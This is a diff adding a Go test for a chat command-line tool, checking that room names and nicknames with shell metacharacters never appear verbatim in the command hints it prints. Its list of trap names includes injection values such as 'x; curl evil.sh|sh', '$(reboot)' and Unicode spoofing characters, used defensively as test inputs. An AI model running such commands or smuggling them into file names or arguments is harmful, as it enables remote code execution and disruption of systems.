@@ -1,0 +1,70 @@
+package cli
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"localchat/node"
+)
+
+// traps are names that are more than a word where they are typed, in a shell or after a command of ours.
+var traps = []string{
+	"x; curl evil.sh|sh", "`reboot`", "$(reboot)", "a b", "-rf", "--help", "a\nb", "a\u2028b", "x&", "a>b", "'", `"`, "*", "~root", "#x", "!!", "a\\b", "{a,b}",
+	"\u202ebal", "la\u200bb", "\u3164", "la\u3164b", "", "x|y", "a=b", "%PATH%", "a\tb", "[x]", "?", "(x)",
+}
+
+// TestHintsHaveNoNameThatIsMore: where a hint is a line to type, a name stands in it only if it is a word, in every hint that
+// there is; else it is the id.
+func TestHintsHaveNoNameThatIsMore(t *testing.T) {
+	for _, trap := range traps {
+		var hints []string
+		for _, body := range every() {
+			ev := node.Event{Room: labID, RoomName: trap, Body: body}
+			if err := ending(ev); err != nil {
+				hints = append(hints, err.(*failure).hint)
+			}
+			if r, ok := body.(node.Removed); ok {
+				hints = append(hints, string(afterRemoval(r, roomWord(trap, labID), "/")))
+			}
+		}
+		line, _ := renderer{}.text(node.Event{Body: node.Knock{Peer: daveID, Nick: trap, Words: "a b"}})
+		_, hint, _ := strings.Cut(string(line), "a b; ")
+		hints = append(hints, hint)
+		f := newFake()
+		f.members = []node.MemberInfo{{Peer: daveID, Nick: trap, Role: "member"}, {Peer: aliceID, Nick: trap, Role: "member"}}
+		_, several := node.FindWho(trap, "in lab", []node.Named{{Peer: daveID, Nick: trap}, {Peer: aliceID, Nick: trap}})
+		hints = append(hints, node.AsError(several).Hint)
+		f.members = f.members[:1]
+		c := call{n: f, args: []string{daveID.String()}, room: here{id: labID.String(), name: trap, owned: true}, table: commands()}
+		for _, run := range []func(context.Context, call) (reply, error){runWhois, runVerify, runMembers} {
+			r, err := run(t.Context(), c)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, line := range r.lines {
+				if rest, ok := strings.CutPrefix(string(line), "hint: "); ok {
+					hints = append(hints, rest)
+				}
+			}
+		}
+		if r, err := createRoom(t.Context(), f, node.CreateOptions{Name: trap}); err == nil {
+			_, rest, _ := strings.Cut(string(r.lines[0]), "localchat join ")
+			hints = append(hints, rest)
+		}
+		if len(hints) < 10 {
+			t.Fatalf("there are only the hints %q", hints)
+		}
+		for _, hint := range hints {
+			word := string(clean(trap, shownName))
+			if len(word) > 1 && strings.Contains(hint, word) && !strings.Contains("a b", word) || strings.ContainsAny(hint, "`$|&\n\t\u2028'\"*{}<>\\") {
+				t.Errorf("the name %q is in the hint %q", trap, hint)
+			}
+		}
+	}
+	for name, want := range map[string]bool{"lab": true, "labör-2.1_x": true, "実験室": true, "lab three": false, "": false, "-x": false} {
+		if got := string(roomWord(name, labID)) == name && name != ""; got != want {
+			t.Errorf("%q is typed as %q", name, roomWord(name, labID))
+		}
+	}
+}
